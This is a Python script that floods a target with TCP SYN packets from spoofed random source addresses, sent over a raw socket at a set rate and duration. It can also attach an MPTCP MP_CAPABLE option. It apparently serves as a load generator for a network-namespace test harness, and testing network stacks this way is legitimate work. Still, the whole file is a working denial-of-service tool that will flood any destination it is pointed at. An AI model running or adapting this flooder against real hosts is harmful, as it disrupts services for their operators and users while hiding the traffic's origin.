#!/usr/bin/env python3
"""SYN flood with spoofed sources, for netns/flood.sh (python3
standard library only; what `hping3 --rand-source -S -i u100` does, and it
can put an MP_CAPABLE option in the SYN, which hping3 cannot).

  python3 flood.py DST DPORT --rate 10000 --duration 20 [--mpc] [--src-net 100.64.0.0/10]

Each SYN comes from a random address of --src-net (default 100.64.0.0/10)
and a random port, with a random sequence number; options MSS 1460,
SACK_PERM, window scale 7, and with --mpc MP_CAPABLE v1 as a SYN carries it
(kind 30, length 4, subtype 0 / version 1, flags 0x01: 1e 04 01 01). The TCP
checksum is computed; the kernel fills in the IP header's. Sent through a
raw socket (IP_HDRINCL), paced in 2 ms steps to the rate. Prints one JSON
line: packets sent, seconds, the achieved rate.
"""
import ipaddress, json, random, socket, struct, sys, time


def csum(data):
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s & 0xFFFF) + (s >> 16)
    s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def main(argv):
    if len(argv) < 2:
        print(__doc__); return 2
    dst, dport = argv[0], int(argv[1])
    def opt(name, default):
        return argv[argv.index(name) + 1] if name in argv else default
    rate = float(opt("--rate", "10000"))
    duration = float(opt("--duration", "20"))
    net = ipaddress.ip_network(opt("--src-net", "100.64.0.0/10"))
    base, span = int(net.network_address), net.num_addresses
    opts = b"\x02\x04\x05\xb4" + b"\x04\x02" + b"\x01\x03\x03\x07" + b"\x01\x01"
    if "--mpc" in argv:
        opts += b"\x1e\x04\x01\x01"
    thl = 20 + len(opts)
    daddr = socket.inet_aton(dst)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    rnd = random.Random(int(opt("--seed", "1")))
    sent = errors = 0
    t0 = time.monotonic()
    end = t0 + duration
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - t0) * rate) - sent
        for _ in range(due):
            saddr = struct.pack("!I", base + rnd.randrange(span))
            sport = rnd.randrange(1024, 65536)
            tcp = struct.pack("!HHIIBBHHH", sport, dport, rnd.getrandbits(32), 0, (thl // 4) << 4, 0x02, 64240, 0, 0) + opts
            c = csum(saddr + daddr + struct.pack("!BBH", 0, 6, thl) + tcp)
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + thl, 0, 0x4000, 64, 6, 0, saddr, daddr)
            try:
                s.sendto(ip + tcp[:16] + struct.pack("!H", c) + tcp[18:], (dst, 0))
            except OSError:
                errors += 1
            sent += 1
        time.sleep(0.002)
    secs = time.monotonic() - t0
    print(json.dumps({"sent": sent - errors, "send_errors": errors, "seconds": round(secs, 3),
                      "rate_pps": round((sent - errors) / secs), "target_pps": rate}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
